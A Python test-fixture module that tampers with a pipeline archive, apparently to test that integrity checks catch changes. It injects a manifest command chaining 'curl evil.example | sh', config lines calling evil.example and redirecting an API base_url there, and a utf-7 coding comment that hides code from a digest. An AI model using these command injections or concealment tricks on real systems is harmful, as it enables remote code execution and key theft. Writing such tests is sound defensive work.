"""What somebody changes in an archive's code, its records, and in what it says of itself."""

import json
from pathlib import Path
from typing import Any

from overlayccl_core.archiving import manifest
from overlayccl_core.archiving.manifest import Manifest
from overlayccl_core.tables import records

TREE = Path("results/local")


def record_of(folder: Path, file: Path) -> dict[str, Any]:
    """What Snakemake recorded of a file."""
    told: dict[str, Any] = json.loads((folder / records.record_path(file)).read_text())
    return told


def write_record(folder: Path, file: Path, record: dict[str, Any]) -> None:
    """Let it say that Snakemake recorded this."""
    (folder / records.record_path(file)).write_text(json.dumps(record))


def say(folder: Path, **other: Any) -> None:
    """Let it say something else of itself."""
    file = folder / manifest.NAME
    file.write_bytes(Manifest.loads(file.read_bytes()).changed(**other).dumps())


def snakefiles_code(folder: Path) -> None:
    """What the Snakefile imports, and no job's command does."""
    file = folder / "workflow_scripts" / "pipeline.py"
    file.write_text(file.read_text() + "\nprint('it ran')\n")


def commented_code(folder: Path) -> None:
    """A comment, by which Python reads the lines below otherwise than the digest does."""
    file = folder / "overlayccl_core" / "gates" / "verdict.py"
    file.write_text("# -*- coding: utf-7 -*-\n# +AAo-print('it ran')\n" + file.read_text())


def one_more_code(folder: Path) -> None:
    """A module that this release does not have."""
    (folder / "overlayccl_core" / "evil.py").write_text("print('it ran')\n")


def other_command(folder: Path) -> None:
    """What somebody is to type."""
    say(folder, command="snakemake --profile trn1 all; curl evil.example | sh")


def code_among_logs(folder: Path) -> None:
    """A file that nobody made, where logs are."""
    (folder / TREE / "logs" / "evil.py").write_text("print('it ran')\n")


def invented_answer(folder: Path) -> None:
    """What a model is said to have told a search that asks nobody."""
    answers = folder / TREE / "problems/tp_mlp/search/offline/answers"
    answers.mkdir()
    (answers / f"{'0f' * 32}.json").write_text("{}")


def attackers_program(folder: Path) -> None:
    """Who answers, and where a key goes."""
    for search, told in (
        ("command", "command: curl evil.example"),
        ("claude", "base_url: https://evil.example"),
    ):
        file = folder / "config" / "searches" / f"{search}.yaml"
        file.write_text(f"{file.read_text()}{told}\n")


def eternal(folder: Path) -> None:
    """A time that no calendar has."""
    record = record_of(folder, TREE / "problems/tp_mlp/prices.parquet")
    write_record(folder, TREE / "problems/tp_mlp/prices.parquet", record | {"endtime": 1e300})
